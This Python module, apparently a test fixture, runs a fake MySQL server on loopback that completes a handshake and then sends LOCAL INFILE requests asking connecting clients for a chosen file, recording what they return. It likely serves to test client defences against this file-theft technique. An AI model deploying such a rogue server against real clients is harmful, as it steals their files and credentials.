"""A server that speaks just enough of MySQL's protocol to be let in, and then asks its clients for a file."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress

SECONDS = 2  # it gives up after
CAPABILITIES = 0x1 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000  # LOCAL_FILES is 0x80
GREETING = (
    b"\x0a8.0.36\0"
    + struct.pack("<I", 7)
    + b"12345678\0"
    + struct.pack("<HBHHB", CAPABILITIES & 0xFFFF, 45, 2, CAPABILITIES >> 16, 21)
    + bytes(10)
    + b"123456789012\0"
    + b"mysql_native_password\0"
)
OK = b"\0\0\0\2\0\0\0"
QUERY, PING = b"\3", b"\x0e"


class Rogue:
    """What a rogue server wants, and what it was given.

    Parameters
    ----------
    path : str
        The file it asks for.
    trigger : bytes
        How a command begins that it answers with that; it says OK to all others. b"": the login.
    times : int
        How many such requests it makes, one upon the other.
    """

    def __init__(self, path: str, trigger: bytes, times: int = 1) -> None:
        self.path, self.trigger, self.times = path, trigger, times
        self.asked = 0
        self.login = self.given = self.received = b""  # `given`: all that came after the first request
        self.port = 0

    def serve(self, listener: socket.socket) -> None:
        """Talk to clients, one after the other, until the listener is closed."""
        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            with client:
                client.settimeout(SECONDS)
                with suppress(OSError, EOFError):
                    self._talk(client)

    def _talk(self, client: socket.socket) -> None:
        _send(client, 0, GREETING)
        number, self.login = self._receive(client)
        if not self.trigger:
            self._ask(client, number + 1)
            return
        _send(client, number + 1, OK)
        while True:
            number, command = self._receive(client)
            if command.startswith(self.trigger):
                self._ask(client, number + 1)
                return
            _send(client, number + 1, OK)

    def _ask(self, client: socket.socket, number: int) -> None:
        for _ in range(self.times):
            _send(client, number, b"\xfb" + self.path.encode())
            self.asked += 1
            packet = b"?"
            while packet:
                number, packet = self._receive(client)
                self.given += packet
            number += 1
        _send(client, number, OK)

    def _receive(self, client: socket.socket) -> tuple[int, bytes]:
        head = _exactly(client, 4)
        packet = _exactly(client, int.from_bytes(head[:3], "little"))
        self.received += packet
        return head[3], packet


@contextmanager
def rogue_server(path: str, trigger: bytes, times: int = 1) -> Iterator[Rogue]:
    """Run a rogue server on a free port of the loopback interface."""
    rogue = Rogue(path, trigger, times)
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.settimeout(SECONDS)
        rogue.port = listener.getsockname()[1]
        thread = threading.Thread(target=rogue.serve, args=(listener,), daemon=True)
        thread.start()
        yield rogue
        listener.shutdown(socket.SHUT_RDWR)
    thread.join(SECONDS)
    assert not thread.is_alive()


def _send(client: socket.socket, number: int, packet: bytes) -> None:
    client.sendall(struct.pack("<I", len(packet))[:3] + bytes([number & 255]) + packet)


def _exactly(client: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        if not (more := client.recv(size - len(data))):
            raise EOFError
        data += more
    return data
